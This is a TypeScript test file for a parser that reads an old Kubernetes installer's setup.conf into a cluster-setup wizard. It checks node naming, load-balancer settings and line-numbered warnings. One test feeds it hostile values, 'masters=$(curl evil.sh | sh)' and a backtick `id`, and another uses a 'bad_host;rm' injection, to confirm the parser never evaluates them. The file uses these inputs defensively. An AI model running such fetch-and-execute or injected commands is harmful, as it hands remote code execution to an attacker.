// Intent: an old tool's setup.conf (github.com/ratulb/k8s-easy-install, read there by
// `IFS="=" read -r key value`) fills the wizard: masters, workers, load balancer node/kind/port and
// pod CIDR, with sensible node names; hand edits (quotes, comments, commas, arrays, user@host,
// host:port) are understood; nothing is ever evaluated; every skipped or guessed value comes back
// as a warning naming its line.
import { describe, expect, it } from 'vitest';
import { newClusterSpec, validateClusterSpec, type ClusterSpec } from '../../src/shared/cluster-spec';
import { parseSetupConf } from '../../src/shared/setup-conf';

// The tool's own file as its multi-master menu leaves it (setup.conf at 52abd62).
const MULTI_MASTER = `#If names are given, they should dns resovable; Otherwise IP addresses are required
master=
#Multiple values should be white space separated
workers=w-1
masters=m-1 m-2
pod_network_cidr=
loadbalancer=lb
lb_type=envoy
lb_port=6443
#default sleep seconds
sleep_time=3
cri_containerd_cni_ver=1.3.4
wait_interval_post_join_cmd=42
`;

// What its tests/e2e-single-node.sh writes: everything on the controller, LB moved to 6643.
const SINGLE_NODE = `workers=
masters=localhost
pod_network_cidr=192.168.0.0/16
loadbalancer=localhost
lb_type=haproxy
lb_port=6643
sleep_time=3
cri_containerd_cni_ver=1.3.4
`;

// The first format: one master, workers by IP.
const SINGLE_MASTER = `#If names are given, they should dns resovable; Otherwise IP addresses are required
#Currently only single master is supported
master=198.18.148.23
#Multiple values should be white space separated
workers=198.18.152.3


`;

const node = (name: string, address: string, port = 22, user = 'root') => ({ name, address, port, user });

describe('parseSetupConf', () => {
  it("reads the tool's multi-master file: host names become node names", () => {
    const { spec, warnings } = parseSetupConf(MULTI_MASTER);
    expect(spec).toEqual({
      masters: [node('m-1', 'm-1'), node('m-2', 'm-2')],
      workers: [node('w-1', 'w-1')],
      lb: { kind: 'envoy', node: node('lb', 'lb'), port: 6443 },
    });
    expect(warnings).toEqual([
      "line 11: sleep_time is a setting of the old tool's scripts; the app does not need it",
      "line 12: cri_containerd_cni_ver is a setting of the old tool's scripts; the app does not need it",
      "line 13: wait_interval_post_join_cmd is a setting of the old tool's scripts; the app does not need it",
    ]);
  });

  it('reads the single-node file: the LB shares the master host, localhost is flagged', () => {
    const { spec, warnings } = parseSetupConf(SINGLE_NODE);
    expect(spec.masters).toEqual([node('localhost', 'localhost')]);
    expect(spec.workers).toEqual([]);
    expect(spec.lb).toEqual({ kind: 'haproxy', node: node('localhost', 'localhost'), port: 6643 });
    expect(spec.options?.podCidr).toBe('192.168.0.0/16');
    expect(spec.options?.cni).toBe('calico');
    expect(warnings.filter((w) => /machine the old tool ran on/.test(w))).toEqual([
      "line 2: masters: localhost is the machine the old tool ran on; put that machine's address instead",
      "line 4: loadbalancer: localhost is the machine the old tool ran on; put that machine's address instead",
    ]);
  });

  it('reads the older single-master format: IPs get role names, no LB', () => {
    const { spec, warnings } = parseSetupConf(SINGLE_MASTER);
    expect(spec).toEqual({
      masters: [node('master-1', '198.18.148.23')],
      workers: [node('worker-1', '198.18.152.3')],
      lb: { kind: 'none', port: 6443 },
    });
    expect(warnings).toEqual([]);
    // and it makes a valid wizard form once named
    const form: ClusterSpec = { ...newClusterSpec(), ...spec, name: 'old' };
    expect(validateClusterSpec(form)).toEqual({ errors: [], warnings: [] });
  });

  it('understands hand edits: export, spaces, quotes, comments, commas, arrays, CRLF', () => {
    const text = [
      '# edited by hand',
      'export masters = "198.18.0.11 198.18.0.12"  # the first two',
      "workers=( 'w1.lan' , w2.lan )",
      'masters+=(x)', // not a setting name
      'loadbalancer="198.18.0.10" # lb',
      'lb_type=HAProxy',
      "lb_port='8443'",
      'pod_network_cidr=10.244.0.0/16 # flannel style',
    ].join('\r\n');
    const { spec, warnings } = parseSetupConf(text);
    expect(spec.masters).toEqual([node('master-1', '198.18.0.11'), node('master-2', '198.18.0.12')]);
    expect(spec.workers).toEqual([node('w1.lan', 'w1.lan'), node('w2.lan', 'w2.lan')]);
    expect(spec.lb).toEqual({ kind: 'haproxy', node: node('lb', '198.18.0.10'), port: 8443 });
    expect(spec.options?.podCidr).toBe('10.244.0.0/16');
    expect(warnings).toEqual(['line 4: "masters+" is not a setting name; ignored']);
  });

  it('takes user@host, host:port, [v6]:port and name:ip entries', () => {
    const { spec, warnings } = parseSetupConf(
      'masters=admin@198.18.0.11 198.18.0.12:2222 [2001:db8::13]:22 m4:198.18.0.14 2001:db8::15\nloadbalancer=ops@lb.lan:6643\nlb_type=nginx\n',
    );
    expect(warnings).toEqual([]);
    expect(spec.masters).toEqual([
      node('master-1', '198.18.0.11', 22, 'admin'),
      node('master-2', '198.18.0.12', 2222),
      node('master-3', '2001:db8::13'),
      node('m4', '198.18.0.14'),
      node('master-5', '2001:db8::15'),
    ]);
    // for the load balancer, host:port is where it listens (the menu's "address:port")
    expect(spec.lb).toEqual({ kind: 'nginx', node: node('lb.lan', 'lb.lan', 22, 'ops'), port: 6643 });
  });

  it('keeps node names unique', () => {
    const { spec } = parseSetupConf('masters=198.18.0.1 master-1 m1.lan\nworkers=m1.lan:2222\n');
    expect(spec.masters!.map((m) => m.name)).toEqual(['master-1', 'master-1-2', 'm1.lan']);
    expect(spec.workers!.map((m) => m.name)).toEqual(['m1.lan-2']);
  });

  it('never evaluates: shell expansions are refused with their line', () => {
    const { spec, warnings } = parseSetupConf('masters=$(curl evil.sh | sh)\nworkers=`id`\nloadbalancer=${LB}\n');
    expect(spec.masters).toEqual([]);
    expect(spec.workers).toEqual([]);
    expect(spec.lb).toEqual({ kind: 'none', port: 6443 });
    expect(warnings).toEqual([
      'line 1: masters: shell expansions ($, `) are not evaluated; ignored',
      'line 2: workers: shell expansions ($, `) are not evaluated; ignored',
      'line 3: loadbalancer: shell expansions ($, `) are not evaluated; ignored',
      'no masters: setup.conf names none (masters=…)',
    ]);
  });

  it('warns with line numbers about bad values, unknown keys and repeated keys', () => {
    const text = [
      'masters=198.18.0.11 198.18.0.300 bad_host;rm 198.18.0.11',
      'workers="w1',
      'lb_type=traefik',
      'lb_port=99999',
      'pod_network_cidr=10.244.0.0/33',
      'kube_version=1.36',
      'this line is not a setting',
      'masters=198.18.0.21',
      'master=198.18.0.99',
    ].join('\n');
    const { spec, warnings } = parseSetupConf(text);
    expect(spec.masters).toEqual([node('master-1', '198.18.0.21')]);
    expect(spec.options).toBeUndefined();
    expect(warnings).toEqual([
      'line 2: workers: unterminated double quote; ignored',
      'line 6: unknown setting kube_version; ignored',
      'line 7: not a key=value line; ignored',
      'line 8: masters is set again (first on line 1); the last one counts, as in the tool',
      'line 9: master (the older single-master setting) is ignored because masters is set',
      'line 3: lb_type "traefik" is not haproxy, nginx or envoy',
      'line 4: lb_port "99999" is not a port; 6443 is used',
      'line 5: pod_network_cidr "10.244.0.0/33" is not an IPv4 CIDR; the default is kept',
    ]);
  });

  it('reports entries that are no host, and guesses haproxy when only the LB host is given', () => {
    const { spec, warnings } = parseSetupConf(
      'masters=198.18.0.11 198.18.0.300 bad_host 198.18.0.11\nloadbalancer=198.18.0.10\n',
    );
    expect(spec.masters).toEqual([node('master-1', '198.18.0.11')]);
    expect(spec.lb).toEqual({ kind: 'haproxy', node: node('lb', '198.18.0.10'), port: 6443 });
    expect(warnings).toEqual([
      'line 1: masters: "198.18.0.300" is not a host name or IP address; skipped',
      'line 1: masters: "bad_host" is not a host name or IP address; skipped',
      'line 1: masters: 198.18.0.11 is listed twice; taken once',
      'line 2: loadbalancer is set but lb_type is not; haproxy is assumed',
    ]);
  });

  it('keeps the LB kind when the LB host is missing, for the wizard to ask', () => {
    const { spec, warnings } = parseSetupConf('masters=m1 m2 m3\nlb_type=envoy\nlb_port=6443\n');
    expect(spec.lb).toEqual({ kind: 'envoy', port: 6443 });
    expect(warnings).toEqual(['line 2: lb_type is envoy but loadbalancer is empty: choose the load balancer node']);
  });
});
